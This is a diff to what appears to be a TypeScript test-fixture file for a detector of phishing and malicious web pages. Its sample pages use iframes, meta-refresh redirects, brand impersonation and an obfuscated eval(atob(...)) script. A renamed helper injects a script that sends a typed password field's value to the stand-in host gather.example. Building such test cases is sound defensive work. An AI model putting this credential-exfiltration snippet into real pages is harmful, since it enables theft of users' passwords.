@@ -21,7 +21,7 @@ const alone = makeSite("a frame alone", "Netflix", `<iframe src="${elsewhere}"><
 const leaves = `<meta http-equiv="refresh" content="1;url=${elsewhere}">`
 const names = Array.from({ length: 31 }, (_, n) => `_0x${(n + 4096).toString(16)}=1`).join(";")
 
-const typedInto = (field: string) =>
+const appendLeakOf = (field: string) =>
   `${field}<script>onclick=()=>open("https://gather.example/w?"+encodeURIComponent(f.value))</script>`
 const words = "Moss grows on the north side of the pier. ".repeat(4)
 const decoded = `<script>eval(atob("${"Qm9h".repeat(80)}"))</script>`
@@ -207,18 +207,18 @@ export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
   ],
   [
     "typed-into-address",
-    makeSite("typed into an address", ours, `<h1>${ours}</h1>${typedInto(`<input type="password">`)}`),
+    makeSite("typed into an address", ours, `<h1>${ours}</h1>${appendLeakOf(`<input type="password">`)}`),
   ],
   [
     "secret-into-address",
-    makeSite("secret into an address", ours, `<h1>${ours}</h1>${typedInto(`<input type="password">`)}`),
+    makeSite("secret into an address", ours, `<h1>${ours}</h1>${appendLeakOf(`<input type="password">`)}`),
   ],
   [
     "decoded-and-asks",
     makeSite("fields and what is decoded", ours, `<h1>${ours}</h1><p>${words}</p><input name="a">${decoded}`),
   ],
   ["letters-in-words", makeSite("letters in words", ours, `<h1>${broken}</h1>${login(elsewhere)}`)],
-  ["title-of-nothing", makeSite("title of nothing", "…", `<h1>${ours}</h1>${typedInto(`<input name="a">`)}`)],
+  ["title-of-nothing", makeSite("title of nothing", "…", `<h1>${ours}</h1>${appendLeakOf(`<input name="a">`)}`)],
   ["drops-program", makeSite("program under a name", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
   ["drops-program-under-name", makeSite("program under a name", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
   ["coins-under-name", makeSite("coins under a name", "Ferry", `<div>Binance</div><p>bc1q${"a".repeat(30)}</p>`)],
